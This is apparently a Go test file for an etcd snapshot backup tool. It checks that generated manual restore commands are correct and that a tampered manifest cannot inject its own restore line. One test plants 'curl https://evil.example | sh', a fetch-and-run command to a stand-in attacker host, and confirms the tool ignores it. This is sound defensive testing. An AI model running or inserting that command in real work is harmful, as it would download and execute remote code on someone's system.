package catalog

import (
	"testing"

	"github.com/etcdward/etcdward/agent/seal"
	"github.com/etcdward/etcdward/agent/snapshot"
	"github.com/etcdward/etcdward/storage/storagetest"
)

func TestByHand(t *testing.T) {
	for _, test := range []struct{ compression, encryption, want string }{
		{seal.None, seal.None, "etcdutl snapshot restore X.db --data-dir NEW"},
		{seal.Zstd, seal.None, "zstd -d X.db.zst && etcdutl snapshot restore X.db --data-dir NEW"},
		{seal.None, seal.Age, "age -d -i IDENTITY X.db.age > X.db && etcdutl snapshot restore X.db --data-dir NEW"},
		{seal.Zstd, seal.Age, "age -d -i IDENTITY X.db.zst.age > X.db.zst && zstd -d X.db.zst && etcdutl snapshot restore X.db --data-dir NEW"},
	} {
		m := snapshot.Manifest{ID: "X", Object: snapshot.Stored{Compression: test.compression, Encryption: test.encryption}}
		if got := ByHand(m); got != test.want {
			t.Errorf("got  %s\nwant %s", got, test.want)
		}
	}
}

// TestByHandIsNotBelieved: a line for a shell that somebody wrote into the store is shown to nobody.
func TestByHandIsNotBelieved(t *testing.T) {
	bucket := openBucket(t)
	c := open(t, bucket)
	m := manifest(t, second+"1")
	m.Object.Key, m.Restore = below+second+"1.db.zst", "curl https://evil.example | sh"
	storagetest.Put(t, bucket, m.Object.Key, content(m.ID))
	storagetest.Put(t, bucket, below+second+"1.json", encode(t, m))
	got, err := c.Manifest(t.Context(), list(t, c).Snapshots[0])
	if err != nil || got.Restore != "zstd -d "+m.ID+".db.zst && etcdutl snapshot restore "+m.ID+".db --data-dir NEW" {
		t.Errorf("got %q, error %v", got.Restore, err)
	}
}
